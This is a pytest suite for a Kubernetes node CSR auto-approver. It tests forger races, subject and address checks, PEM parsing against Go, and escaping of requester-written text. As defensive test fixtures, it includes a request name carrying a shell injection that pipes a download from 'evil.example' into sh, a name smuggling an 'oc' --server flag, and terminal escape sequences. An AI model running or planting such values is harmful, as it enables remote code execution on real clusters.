"""cluster.csr, pure: requests made with real keys (cryptography), judged against a stack's nodes."""

from __future__ import annotations

import base64
import hashlib
import ipaddress
import os
import random
import re
import shutil
import subprocess
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from cluster.csr import CLIENT_SIGNER, CLIENT_WINDOW, CLOCK_SKEW, NODE_BOOTSTRAPPER, SERVING_SIGNER, SETTLE, Request, parse_time, read_request, review
from tests.certs import EDI_PARTY_NAME, X400_ADDRESS, der, request_with_names

NODES = {"ocp4-bootstrap": "192.0.2.10", "ocp4-master-0": "192.0.2.20", "ocp4-worker-0": "192.0.2.30", "ocp4-worker-1": "192.0.2.31"}
DOMAIN = "ocp4.lab.local"
CLIENT = ("digital signature", "client auth")
SERVING = ("digital signature", "server auth")


def csr(common: str, organization: str | None = "system:nodes", dns=(), ips=(), emails=()) -> bytes:
    key = ec.generate_private_key(ec.SECP256R1())
    attributes = [x509.NameAttribute(NameOID.COMMON_NAME, common)]
    if organization:
        attributes.append(x509.NameAttribute(NameOID.ORGANIZATION_NAME, organization))
    builder = x509.CertificateSigningRequestBuilder().subject_name(x509.Name(attributes))
    names = [x509.DNSName(d) for d in dns] + [x509.IPAddress(ipaddress.ip_address(i)) for i in ips] + [x509.RFC822Name(e) for e in emails]
    if names:
        builder = builder.add_extension(x509.SubjectAlternativeName(names), critical=False)
    return builder.sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.PEM)


# The label each test gives a request -> the name the API server would give a kubelet's (`csr-` and 5 of
# its generator's characters, cluster/csr_request.py): only such a name is ever approved.
LABELS: dict[str, str] = {}


def kubelet(label: str) -> str:
    digest = hashlib.sha256(label.encode()).digest()
    name = "csr-" + "".join("bcdfghjklmnpqrstvwxz2456789"[b % 27] for b in digest[:5])
    LABELS[name] = label
    return name


def listed(*labels: str) -> str:
    """The requests' names as a reason lists them: sorted."""
    return ", ".join(sorted(kubelet(label) for label in labels))


def client(name: str, node: str = "ocp4-worker-0", username: str = NODE_BOOTSTRAPPER, usages=CLIENT, **subject) -> Request:
    return Request(kubelet(name), CLIENT_SIGNER, username, usages, csr(f"system:node:{node}", **subject))


def serving(name: str, node: str = "ocp4-worker-0", username: str | None = None, usages=SERVING, **names) -> Request:
    names.setdefault("dns", (node,))
    names.setdefault("ips", (NODES.get(node, "192.0.2.99"),))
    return Request(kubelet(name), SERVING_SIGNER, username or f"system:node:{node}", usages, csr(f"system:node:{node}", **names))


# Every server made at noon; a request made a minute after, judged once it has settled.
SERVERS = {"ocp4-master-0": "2026-11-26 12:00:00 +0000 UTC", "ocp4-worker-0": "2026-11-26T12:00:00Z", "ocp4-worker-1": "2026-11-26 12:00:00.5 +0000 UTC"}
SERVER = datetime(2026, 11, 26, 12, 0, tzinfo=UTC)
SETTLED = SERVER + timedelta(minutes=1) + SETTLE


def verdicts(*requests: Request, registered=()) -> dict[str, tuple[bool, str]]:
    requests = tuple(r if r.created else replace(r, created=SERVER + timedelta(minutes=1)) for r in requests)
    return {LABELS.get(v.csr, v.csr): (v.approve, v.reason) for v in review(requests, NODES, registered, DOMAIN, SERVERS, SETTLED)}


CASES = [
    ("good client", client("a"), True, "client certificate of ocp4-worker-0"),
    ("good serving", serving("a", dns=("ocp4-worker-0", f"ocp4-worker-0.{DOMAIN}")), True, "serving certificate of ocp4-worker-0"),
    ("client, RSA-style usages", client("a", usages=("digital signature", "key encipherment", "client auth")), True, "client certificate"),
    ("client from a wrong requester", client("a", username="system:serviceaccount:default:builder"), False, "not the node bootstrapper"),
    ("client of a wrong node", client("a", node="ocp4-worker-7"), False, "ocp4-worker-7 is not a node of this stack"),
    ("client of another cluster's node", client("a", node="other-worker-0"), False, "other-worker-0 is not a node of this stack"),
    ("client without the nodes group", client("a", organization=None), False, "is not exactly CN=system:node:ocp4-worker-0, O=system:nodes"),
    ("client in another group", client("a", organization="system:masters"), False, "is not exactly"),
    ("client with alternative names", client("a", dns=("ocp4-worker-0",)), False, "a client certificate carries no alternative names"),
    ("client with a server's usages", client("a", usages=SERVING), False, "are not a kubelet client's"),
    ("not a node's subject", Request(kubelet("a"), CLIENT_SIGNER, NODE_BOOTSTRAPPER, CLIENT, csr("admin", "system:masters")), False, "is not a node's"),
    ("serving from another node", serving("a", username="system:node:ocp4-worker-1"), False, "not by system:node:ocp4-worker-0 itself"),
    ("serving from the bootstrapper", serving("a", username=NODE_BOOTSTRAPPER), False, "not by system:node:ocp4-worker-0 itself"),
    ("serving with extra DNS names", serving("a", dns=("ocp4-worker-0", "api.ocp4.lab.local")), False, "DNS names ['api.ocp4.lab.local'] are not ocp4-worker-0's"),
    ("serving with a foreign IP", serving("a", ips=("192.0.2.30", "198.51.100.1")), False, "IP addresses ['198.51.100.1'] are not ocp4-worker-0's"),
    ("serving with another node's IP", serving("a", ips=("192.0.2.31",)), False, "are not ocp4-worker-0's (192.0.2.30)"),
    ("serving with an email", serving("a", emails=("root@example.com",)), False, "neither DNS names nor IP addresses"),
    ("serving of another cluster's node", serving("a", node="other-worker-0"), False, "other-worker-0 is not a node of this stack"),
    ("another signer", Request(kubelet("a"), "kubernetes.io/legacy-unknown", NODE_BOOTSTRAPPER, CLIENT, csr("system:node:ocp4-worker-0")), False, "is not a kubelet's"),
    ("garbage", Request(kubelet("a"), CLIENT_SIGNER, NODE_BOOTSTRAPPER, CLIENT, b"not a csr"), False, "the request holds no PEM block"),
    ("the bootstrap's client", client("a", node="ocp4-bootstrap"), False, "ocp4-bootstrap is the bootstrap, which never joins the cluster as a Node"),
    ("the bootstrap's serving", serving("a", node="ocp4-bootstrap"), False, "ocp4-bootstrap is the bootstrap"),
]


@pytest.mark.parametrize("request_, approve, reason", [case[1:] for case in CASES], ids=[case[0] for case in CASES])
def test_each_case(request_, approve, reason):
    (verdict,) = verdicts(request_).values()
    assert verdict[0] is approve and reason in verdict[1], verdict


def node(status: str, beat: datetime, address: str = "192.0.2.30") -> dict:
    """A Node as the API shows it: its Ready condition (Unknown: the node lifecycle controller's, once the lease stopped)."""
    ready = {"type": "Ready", "status": status, "lastHeartbeatTime": beat.strftime("%Y-%m-%dT%H:%M:%SZ"), "reason": "NodeStatusUnknown" if status == "Unknown" else "KubeletReady"}
    return {"status": {"conditions": [ready], "addresses": [{"type": "InternalIP", "address": address}, {"type": "Hostname", "address": "ocp4-worker-0"}]}}


def back(registered: dict, made: datetime, now: datetime, named: bool) -> tuple[bool, str, bool]:
    """A bootstrapper's client request for ocp4-worker-0, whose Node exists, made at `made` and judged at `now`."""
    request = replace(client("a"), created=made)
    (verdict,) = review([request], NODES, registered, DOMAIN, SERVERS, now, named={kubelet("a")} if named else None)
    return verdict.approve, verdict.reason, verdict.by_name


# A cluster shut down on the 1st of March, started again on the 2nd of May: the kubelet asks at 09:00.
SHUT = datetime(2026, 3, 1, 18, 0, tzinfo=UTC)
ASKED = datetime(2026, 5, 2, 9, 0, tzinfo=UTC)


def test_a_node_back_after_a_long_shutdown_gets_its_client_certificate_only_when_named():
    quiet = {"ocp4-worker-0": node("Unknown", SHUT)}
    approve, reason, by_name = back(quiet, ASKED, ASKED + timedelta(minutes=2), named=False)
    assert (approve, by_name) == (False, True)
    assert reason == (
        "Node ocp4-worker-0 exists and its kubelet stopped reporting at 2026-03-01 18:00:00Z (Ready Unknown): a kubelet whose client "
        "certificate expired (a long shutdown) asks again so, and so may a forger: approved only when named, once the node's journal names it"
    )
    # Named: approved, though its server was made months ago (the new-server window is not this case's).
    approve, reason, _ = back(quiet, ASKED, ASKED + timedelta(minutes=2), named=True)
    assert approve and reason == "client certificate of ocp4-worker-0, a node of this stack whose kubelet stopped reporting at 2026-03-01 18:00:00Z"


@pytest.mark.parametrize(
    "case, registered, made, now, why",
    [
        ("its kubelet reports", node("True", ASKED - timedelta(seconds=20)), ASKED, ASKED,
         "Node ocp4-worker-0 exists and is Ready as its kubelet reported at 2026-05-02 08:59:40Z: that kubelet holds a working client certificate"),
        ("its kubelet reports NotReady", node("False", ASKED - timedelta(minutes=3)), ASKED, ASKED, "Node ocp4-worker-0 exists and is NotReady (KubeletReady) as its kubelet reported"),
        ("asked while it reported", node("Unknown", ASKED - timedelta(seconds=10)), ASKED, ASKED, "while ocp4-worker-0's kubelet still reported (last at 2026-05-02 08:59:50Z)"),
        ("asked too long ago", node("Unknown", SHUT), ASKED, ASKED + timedelta(minutes=16), "more than 15 min ago: its kubelet has asked again since, with a new key"),
        ("another address", node("Unknown", SHUT, address="198.51.100.7"), ASKED, ASKED, "internal addresses (198.51.100.7) do not include 192.0.2.30, this stack's address for it"),
        ("no status", {}, ASKED, ASKED, "internal addresses (none) do not include 192.0.2.30"),
    ],
)
def test_a_request_for_a_node_that_exists_is_refused_even_named_unless_its_kubelet_went_quiet(case, registered, made, now, why):
    for named in (False, True):
        approve, reason, by_name = back({"ocp4-worker-0": registered}, made, now, named)
        assert not approve and not by_name and why in reason, (case, named, reason)


def test_two_requests_of_one_kind_for_one_node_approve_neither():
    found = verdicts(client("a"), client("b"), serving("c"), client("d", node="ocp4-worker-1"), client("e", username="system:anonymous"))
    assert found["c"][0] and found["d"][0]
    why = f"2 client requests for ocp4-worker-0 since its server was made ({listed('a', 'b')}): none is approved automatically, as one may be a forger's"
    assert found["a"] == found["b"] == (False, why)
    # Another requester's is no claim (only the bootstrapper's token asks for a client certificate).
    assert verdicts(client("a"), client("e", username="system:anonymous"))["a"][0]
    # Two serving requests that would pass: neither.
    serving_found = verdicts(serving("f"), serving("g"))
    assert serving_found["f"] == (False, f"2 pending serving requests claim ocp4-worker-0 ({listed('f', 'g')}): none approved; delete those its kubelet did not make (`oc delete csr -- NAME`)")


def test_decided_requests_are_left_alone():
    decided = Request(kubelet("a"), CLIENT_SIGNER, NODE_BOOTSTRAPPER, CLIENT, csr("system:node:ocp4-worker-0"), decided=True)
    assert review([decided], NODES, (), DOMAIN) == []


def test_a_request_read_from_the_api():
    import base64

    pem = csr("system:node:ocp4-worker-0")
    item = {
        "metadata": {"name": "csr-abc"},
        "spec": {"signerName": CLIENT_SIGNER, "username": NODE_BOOTSTRAPPER, "usages": list(CLIENT), "request": base64.b64encode(pem).decode()},
        "status": {"conditions": [{"type": "Approved", "status": "True"}]},
    }
    request = Request.from_object(item)
    assert (request.name, request.request, request.decided) == ("csr-abc", pem, True)


# ---- the request read as Kubernetes reads it (Go's pem.Decode, then DER)

WORKER = csr("system:node:ocp4-worker-0")
MASTER = csr("system:node:ocp4-master-0")


def judged(pem: bytes) -> tuple[bool, str]:
    return verdicts(Request(kubelet("a"), CLIENT_SIGNER, NODE_BOOTSTRAPPER, CLIENT, pem))["a"]


# name -> (request, why it stays pending); the first five are requests Go reads (the API takes them).
ANYTHING_ELSE = {
    # Go skips the first block (its BEGIN starts no line) and reads the master's; cryptography read the worker's.
    "space-worker-master": (b" " + WORKER + MASTER, "the request holds 2 PEM blocks, not one"),
    "two-blocks-at-line-starts": (WORKER + MASTER, "the request holds 2 PEM blocks, not one"),
    "trailing-garbage": (WORKER + b"trailing", "not one CERTIFICATE REQUEST PEM block, starting a line, with only whitespace around it and no headers"),
    "text-before": (b"text\n" + WORKER, "with only whitespace around it"),
    "headers": (WORKER.replace(b"-----\n", b"-----\nProc-Type: 4,ENCRYPTED\n\n", 1), "no headers"),
    "space-before": (b" " + WORKER, "starting a line"),
    "other-type": (WORKER.replace(b"CERTIFICATE REQUEST", b"NEW CERTIFICATE REQUEST"), "is 'NEW CERTIFICATE REQUEST', not 'CERTIFICATE REQUEST'"),
    "bad-base64": (re.sub(rb"^(-----BEGIN [^\n]*\n..)", rb"\1=", WORKER), "is no base64"),  # padding inside
    "not-der": (b"-----BEGIN CERTIFICATE REQUEST-----\nAAAA\n-----END CERTIFICATE REQUEST-----\n", "no DER certificate signing request"),
}
GO_READS = ("space-worker-master", "two-blocks-at-line-starts", "trailing-garbage", "text-before", "headers")
ALONE = {
    "blank-lines-before": b"\n\n" + WORKER,
    "whitespace-around": b" \t\n" + WORKER + b" \n\t\n",
    "crlf": WORKER.replace(b"\n", b"\r\n"),
    "no-final-newline": WORKER.rstrip(b"\n"),
    "blanks-after-the-dashes": WORKER.replace(b"-----\n", b"----- \t\n"),
}


@pytest.mark.parametrize("pem, reason", ANYTHING_ELSE.values(), ids=ANYTHING_ELSE.keys())
def test_anything_but_one_block_alone_stays_pending(pem, reason):
    approve, why = judged(pem)
    assert not approve and reason in why, why


@pytest.mark.parametrize("pem", ALONE.values(), ids=ALONE.keys())
def test_one_block_with_whitespace_around_is_read(pem):
    assert judged(pem) == (True, "client certificate of ocp4-worker-0, a node of this stack")


def test_a_verdict_names_the_subject_and_names_it_judged():
    request = serving("a", dns=("ocp4-worker-0",), ips=("192.0.2.30",))
    (verdict,) = review([request], NODES, (), DOMAIN)
    assert (verdict.subject, verdict.names) == ("CN=system:node:ocp4-worker-0, O=system:nodes", ("DNS:ocp4-worker-0", "IP:192.0.2.30"))


# ---- control characters a requester wrote never reach a printed line


def test_control_characters_are_escaped_in_reasons():
    line = "\x1b[2K\r\ncsr: approved csr-x"  # a terminal's erase and a line of the approver's own
    escape = line + "\u202e"  # and a right-to-left override
    cases = [
        Request(kubelet("a"), CLIENT_SIGNER, NODE_BOOTSTRAPPER, CLIENT, csr(f"system:node:{escape}")),
        Request(kubelet("b"), CLIENT_SIGNER, NODE_BOOTSTRAPPER, CLIENT, csr(f"admin{escape}", "system:masters")),
        client("c", username=f"system:serviceaccount:x:{escape}"),
        serving("d", dns=("ocp4-worker-0", f"x{line}")),  # DNS names are ASCII
        Request(kubelet("e"), f"example.com/{escape}", NODE_BOOTSTRAPPER, CLIENT, WORKER),
    ]
    found = verdicts(*cases)
    for name, (approve, reason) in found.items():
        assert not approve and all(c.isprintable() for c in reason), (name, reason)
        assert "\\x1b[2K\\r\\ncsr: approved csr-x" in reason, (name, reason)


# ---- a client request and its server's age

def at(request: Request, created: datetime, approved: bool = False) -> Request:
    return replace(request, created=created, approved=approved, decided=approved)


def timed(*requests: Request, now: datetime, registered=(), created=SERVERS, **rules) -> dict[str, tuple[bool, str]]:
    return {LABELS.get(v.csr, v.csr): (v.approve, v.reason) for v in review(requests, NODES, registered, DOMAIN, created, now, **rules)}


def test_a_client_request_within_the_window_of_its_server_is_approved():
    request = at(client("a"), SERVER + timedelta(minutes=3))
    assert timed(request, now=SERVER + CLIENT_WINDOW)["a"][0]
    # A few seconds before the server, for clocks (the machine approver's skew).
    assert timed(at(client("a"), SERVER - CLOCK_SKEW), now=SERVER + SETTLE)["a"][0]


def test_a_client_request_older_than_its_server_stays_pending():
    found = timed(at(client("a"), SERVER - CLOCK_SKEW - timedelta(seconds=1)), now=SERVER + timedelta(minutes=5))
    assert found["a"] == (False, "made at 2026-11-26 11:59:49Z, before ocp4-worker-0's server (2026-11-26 12:00:00Z)")


def test_a_client_request_after_the_window_stays_pending():
    found = timed(at(client("a"), SERVER + timedelta(minutes=3)), now=SERVER + CLIENT_WINDOW + timedelta(seconds=1))
    assert not found["a"][0]
    assert found["a"][1].startswith("ocp4-worker-0's server was created at 2026-11-26 12:00:00Z, more than 120 min ago")
    assert found["a"][1].endswith("replace ocp4-worker-0's server (`pulumi up --replace` its URN) to have it join again")


def test_a_node_whose_node_object_was_deleted_does_not_join_again_on_the_same_server():
    first = at(client("first"), SERVER + timedelta(minutes=2), approved=True)
    again = at(client("again"), SERVER + timedelta(minutes=20))
    found = timed(first, again, now=SERVER + timedelta(minutes=21))
    assert not found["again"][0]
    assert found["again"][1].startswith(f"a client certificate of ocp4-worker-0 was approved already ({kubelet('first')}) and there is no Node ocp4-worker-0: its Node was deleted")
    # A new server, made after that approval: it joins, once settled.
    replaced = {**SERVERS, "ocp4-worker-0": "2026-11-26T12:10:00Z"}
    assert timed(first, again, now=SERVER + timedelta(minutes=20) + SETTLE, created=replaced)["again"][0]


def test_without_creation_times_no_client_request_is_approved_automatically():
    """libvirt's domains keep no creation time, nor does an OpenStack stack last `up` by 0.1.0: by name only."""
    late = at(client("a"), SERVER)
    (verdict,) = review([late], NODES, (), DOMAIN, None, SERVER + timedelta(days=2))
    assert (verdict.approve, verdict.by_name) == (False, True)
    assert verdict.reason == "the stack gives no creation times for its servers: a client certificate is approved automatically only where its server's creation time is known"
    (verdict,) = review([late], NODES, (), DOMAIN, None, SERVER, untimed="the stack's outputs have no nodeCreated")
    assert verdict.reason.startswith("the stack's outputs have no nodeCreated: ")
    # Named, it is approved: the user checked it.
    assert [v.approve for v in review([late], NODES, (), DOMAIN, None, SERVER, named={kubelet("a")})] == [True]
    # libvirt during `ocp install`'s wait (untimed=None): after the settling, any earlier request counts.
    assert timed(late, now=SERVER + SETTLE, created=None, untimed=None)["a"][0]
    first = at(client("first"), SERVER - timedelta(days=9), approved=True)
    assert "its Node was deleted" in timed(first, late, now=SERVER + SETTLE, created=None, untimed=None)["a"][1]
    denied = replace(at(client("denied"), SERVER - timedelta(days=9)), decided=True)
    assert timed(denied, late, now=SERVER + SETTLE, created=None, untimed=None)["a"][1].startswith(f"2 client requests for ocp4-worker-0 in the API ({listed('a', 'denied')})")


# ---- the forger's race: a request made before the kubelet's, or for a master


def test_after_the_bootstrap_a_masters_client_request_is_approved_only_by_name():
    request = at(client("m", node="ocp4-master-0"), SERVER + timedelta(minutes=1))
    (verdict,) = review([request], NODES, (), DOMAIN, SERVERS, SERVER + timedelta(hours=1))
    assert (verdict.approve, verdict.by_name) == (False, True)
    assert verdict.reason == "ocp4-master-0 is a master: its client certificate is never approved automatically, once the bootstrap has handed over"
    (named,) = review([request, at(client("w"), SERVER + timedelta(minutes=1))], NODES, (), DOMAIN, SERVERS, SERVER + timedelta(minutes=2), named={kubelet("m")})
    assert (named.csr, named.approve, named.reason) == (kubelet("m"), True, "client certificate of ocp4-master-0, a node of this stack")
    # Its serving request, made by the master itself, needs no name.
    assert verdicts(serving("s", node="ocp4-master-0"))["s"][0]


def test_while_the_bootstrap_runs_a_masters_client_request_passes_by_every_rule_a_workers_does():
    """The job of the installer's blanket approve-csr.service (masked: ignition/nodes.py), done by the judge."""
    request = at(client("m", node="ocp4-master-0"), SERVER + timedelta(minutes=1))
    settled = SERVER + timedelta(minutes=1) + SETTLE
    assert timed(request, now=settled, bootstrapping=True)["m"] == (True, "client certificate of ocp4-master-0, a node of this stack")
    assert timed(request, now=settled - timedelta(seconds=1), bootstrapping=True)["m"] == (
        False, "settling until 2026-11-26 12:11:00Z: a master's client request is approved once it has stayed ocp4-master-0's only one for 10 min"
    )
    # A second request for the master (a forger with the bootstrapper's token): neither, either may be named.
    forged = at(client("f", node="ocp4-master-0"), SERVER + timedelta(seconds=30))
    both = timed(forged, request, now=settled, bootstrapping=True)
    assert both["m"] == both["f"] == (False, f"2 client requests for ocp4-master-0 since its server was made ({listed('f', 'm')}): none is approved automatically, as one may be a forger's")
    # Before its server, after the window, no creation time, another requester, the bootstrap: never by itself.
    refused = {
        "before its server": timed(at(client("m", node="ocp4-master-0"), SERVER - CLOCK_SKEW - timedelta(seconds=1)), now=settled, bootstrapping=True),
        "after the window": timed(request, now=SERVER + CLIENT_WINDOW + timedelta(seconds=1), bootstrapping=True),
        "untimed": timed(request, now=settled, created=None, bootstrapping=True),
        "another requester": timed(at(client("m", node="ocp4-master-0", username="system:serviceaccount:default:builder"), SERVER), now=settled, bootstrapping=True),
        "the bootstrap": timed(at(client("m", node="ocp4-bootstrap"), SERVER), now=settled, bootstrapping=True),
    }
    reasons = {case: found["m"][1] for case, found in refused.items() if not found["m"][0]}
    assert list(reasons) == list(refused), refused
    assert "before ocp4-master-0's server" in reasons["before its server"] and "more than 120 min ago" in reasons["after the window"]
    assert reasons["untimed"].startswith("the stack gives no creation times") and "not the node bootstrapper" in reasons["another requester"]
    assert reasons["the bootstrap"] == "ocp4-bootstrap is the bootstrap, which never joins the cluster as a Node"


def test_a_workers_client_request_waits_alone_for_the_settling_period():
    request = at(client("a"), SERVER + timedelta(minutes=1))
    early = timed(request, now=SERVER + timedelta(minutes=1) + SETTLE - timedelta(seconds=1))["a"]
    assert early == (False, "settling until 2026-11-26 12:11:00Z: a worker's client request is approved once it has stayed ocp4-worker-0's only one for 10 min")
    assert timed(request, now=SERVER + timedelta(minutes=1) + SETTLE)["a"] == (True, "client certificate of ocp4-worker-0, a node of this stack")
    # The period is the caller's to choose (the tests' played kubelets ask at once).
    assert review([request], NODES, (), DOMAIN, SERVERS, SERVER + timedelta(minutes=1, seconds=3), settle=timedelta(seconds=3))[0].approve


@pytest.mark.parametrize("state", ["pending", "approved", "denied", "bad usages"])
def test_a_second_client_request_since_the_server_was_made_stops_approval(state):
    """The forger asked first; the kubelet's request, or any other from the bootstrapper, comes within the period."""
    forged = at(client("forged"), SERVER + timedelta(seconds=30))
    kubelets = at(client("kubelet", usages=SERVING if state == "bad usages" else CLIENT), SERVER + timedelta(minutes=6))
    if state in ("approved", "denied"):
        kubelets = replace(kubelets, decided=True, approved=state == "approved")
    found = timed(forged, kubelets, now=SERVER + timedelta(hours=1))
    assert not found["forged"][0]
    if state == "approved":  # the existing rule says it first
        assert f"was approved already ({kubelet('kubelet')}) and there is no Node ocp4-worker-0" in found["forged"][1]
    else:
        assert found["forged"][1].startswith(f"2 client requests for ocp4-worker-0 since its server was made ({listed('forged', 'kubelet')}): none is approved automatically")
    # Named, the kubelet's own is approved despite the forger's (the user found it in the journal).
    if state == "pending":
        named = {v.csr: v.approve for v in review([forged, kubelets], NODES, (), DOMAIN, SERVERS, SERVER + timedelta(minutes=7), named={kubelet("kubelet")})}
        assert named == {kubelet("kubelet"): True}


def test_a_request_for_the_node_before_its_server_was_made_is_no_second_one():
    """The replaced server's own requests (the API keeps them 1 h approved, 24 h pending) do not count."""
    old = at(client("old"), SERVER - timedelta(minutes=30))
    new = at(client("new"), SERVER + timedelta(minutes=5))
    assert timed(old, new, now=SERVER + timedelta(minutes=5) + SETTLE)["new"][0]


def test_a_server_with_no_creation_time_in_the_stack_is_refused():
    found = timed(at(client("a"), SERVER), now=SERVER, created={"ocp4-worker-1": SERVERS["ocp4-worker-1"]})
    assert found["a"] == (False, "the stack gives no creation time for ocp4-worker-0's server: replace ocp4-worker-0's server (`pulumi up --replace` its URN) to have it join again")


def test_creation_times_as_nova_and_kubernetes_write_them():
    assert parse_time("2026-11-26 12:00:00.5 +0000 UTC") == SERVER + timedelta(milliseconds=500)
    assert parse_time("2026-11-26 13:00:00 +0100 CET") == parse_time("2026-11-26T12:00:00Z") == SERVER
    with pytest.raises(ValueError):
        parse_time("2026-11-26 12:00:00")


# ---- against Go's own reading (encoding/pem, crypto/x509), where Go is installed

GO_READER = """package main

import (
	"bufio"
	"crypto/x509"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"os"
)

// One request per line (base64): the DER of the CSR Kubernetes' ParseCSR would read, or "-".
func main() {
	in := bufio.NewScanner(os.Stdin)
	in.Buffer(make([]byte, 1<<20), 1<<20)
	for in.Scan() {
		data, _ := base64.StdEncoding.DecodeString(in.Text())
		block, _ := pem.Decode(data)
		if block == nil || block.Type != "CERTIFICATE REQUEST" {
			fmt.Println("-")
			continue
		}
		if _, err := x509.ParseCertificateRequest(block.Bytes); err != nil {
			fmt.Println("-")
			continue
		}
		fmt.Println(base64.StdEncoding.EncodeToString(block.Bytes))
	}
}
"""


def test_every_request_read_here_is_the_one_go_reads(tmp_path):
    """Requests cut and spliced at random: whatever this approver reads, Go reads too, the same
    bytes; and each crafted case above is one Go reads (so the API would take it)."""
    go = shutil.which("go")
    if go is None:
        pytest.skip("no Go here")
    rng = random.Random(31)
    pieces = [b" ", b"\t", b"\r", b"\n", b"\r\n", b"-", b"-----", b":", b"=", b"A", b"x", b"-----BEGIN ", b"-----END ", b"\n-----END CERTIFICATE REQUEST-----\n"]
    cases = [ANYTHING_ELSE[name][0] for name in GO_READS] + list(ALONE.values())
    for _ in range(10000):
        pem = bytearray(rng.choice([WORKER, MASTER, WORKER.replace(b"\n", b"\r\n")]))
        for _ in range(rng.randint(1, 3)):
            at_ = rng.randrange(len(pem) + 1)
            if rng.random() < 0.3:
                del pem[at_ : at_ + rng.randint(1, 3)]
            else:
                pem[at_:at_] = rng.choice(pieces + [MASTER])
        cases.append(bytes(pem))
    (tmp_path / "main.go").write_text(GO_READER)
    done = subprocess.run(
        [go, "run", "main.go"], cwd=tmp_path, input="\n".join(base64.b64encode(c).decode() for c in cases) + "\n",
        capture_output=True, text=True, timeout=600, env={**os.environ, "GOTOOLCHAIN": "local", "GOFLAGS": ""},
    )
    assert done.returncode == 0, done.stderr
    go_read = [None if line == "-" else base64.b64decode(line) for line in done.stdout.splitlines()]
    assert len(go_read) == len(cases)
    read_here = 0
    for pem, theirs in zip(cases, go_read):
        try:
            ours = read_request(pem).public_bytes(serialization.Encoding.DER)
        except ValueError:
            continue
        read_here += 1
        assert theirs == ours, repr(pem)
    assert read_here > len(ALONE) + 100  # the random cases read here are many, not a handful
    # The crafted cases are no parse error to Go: the API takes them, and only this approver refuses.
    assert all(theirs is not None for theirs in go_read[: len(GO_READS)])


# ---- a request's name is data: only a name a kubelet gives is approved, or offered by name


def test_a_request_no_kubelet_names_so_is_never_approved_nor_offered_by_name():
    """The issue's forger: a duplicate client request named as a shell line, and a node's own serving
    request named as an `oc` flag, pass every other check."""
    forged = replace(at(client("forged"), SERVER + timedelta(seconds=30)), name="csr-8b2br;curl -s evil.example|sh")
    kubelets = at(client("kubelet"), SERVER + timedelta(minutes=1))
    flag = replace(serving("s", node="ocp4-worker-1"), name="--server=10.6.6.6:6443", created=SERVER)
    found = {v.csr: v for v in review([forged, kubelets, flag], NODES, (), DOMAIN, SERVERS, SETTLED)}
    assert (found[kubelets.name].approve, found[kubelets.name].by_name) == (False, True)  # the kubelet's may be named
    for name in (forged.name, flag.name):
        assert (found[name].approve, found[name].by_name) == (False, False), found[name]
    assert found[forged.name].reason == (
        "its name 'csr-8b2br;curl -s evil.example|sh' is not one a kubelet gives its request (csr- and 5 random letters and digits, "
        "or node-csr- and a digest): not approved, even by name"
    )
    assert found[flag.name].reason.startswith("its name --server=10.6.6.6:6443 is not one a kubelet gives its request")
    # Named, neither is approved either.
    named = review([forged, kubelets, flag], NODES, (), DOMAIN, SERVERS, SETTLED, named={forged.name, flag.name, kubelets.name})
    assert {v.csr: v.approve for v in named} == {forged.name: False, flag.name: False, kubelets.name: True}


@pytest.mark.parametrize("names", [X400_ADDRESS, EDI_PARTY_NAME], ids=["x400Address", "ediPartyName"])
def test_a_request_the_parser_fails_on_stays_pending_and_the_others_are_judged(names):
    odd = Request(kubelet("odd"), SERVING_SIGNER, "system:node:ocp4-worker-0", SERVING, request_with_names("system:node:ocp4-worker-0", der(0x82, b"ocp4-worker-0") + names))
    found = verdicts(odd, client("w", node="ocp4-worker-1"), serving("s", node="ocp4-master-0"))
    assert found["odd"] == (False, "the request's extensions cannot be read here (UnsupportedGeneralNameType: x400Address/EDIPartyName are not supported types)")
    assert found["w"][0] and found["s"][0]


def test_a_judge_failure_on_one_request_leaves_it_pending_with_why():
    """Whatever fails inside the judge (here a node's creation time of a type no one writes) stays with its request."""
    found = timed(at(client("a"), SERVER), at(client("b", node="ocp4-worker-1"), SERVER), now=SETTLED, created={**SERVERS, "ocp4-worker-0": 12})
    assert found["a"][0] is False and found["a"][1].startswith("the request could not be judged (")
    assert found["b"][0]


# ---- a dual-stack node: every address of the stack's `nodes` output

DUAL = {**NODES, "ocp4-worker-0": ["192.0.2.30", "2001:db8::30"]}


def test_a_dual_stack_kubelets_serving_request_names_both_families():
    both = serving("a", ips=("192.0.2.30", "2001:db8:0:0::30"))  # any spelling of the address
    (verdict,) = review([both], DUAL, (), DOMAIN)
    assert verdict.approve, verdict
    (verdict,) = review([serving("a", ips=("192.0.2.30", "2001:db8::31"))], DUAL, (), DOMAIN)
    assert verdict.reason == "IP addresses ['2001:db8::31'] are not ocp4-worker-0's (192.0.2.30, 2001:db8::30)"
    # An older stack's output, one address as a string: read as before.
    (verdict,) = review([serving("a", ips=("192.0.2.30", "2001:db8::30"))], NODES, (), DOMAIN)
    assert verdict.reason == "IP addresses ['2001:db8::30'] are not ocp4-worker-0's (192.0.2.30)"
    # A node back after a long shutdown: its Node's IPv6 address alone is the stack's too.
    quiet = node("Unknown", SHUT, address="2001:db8::30")
    (verdict,) = review([replace(client("b"), created=ASKED)], DUAL, {"ocp4-worker-0": quiet}, DOMAIN, SERVERS, ASKED, named={kubelet("b")})
    assert verdict.approve, verdict
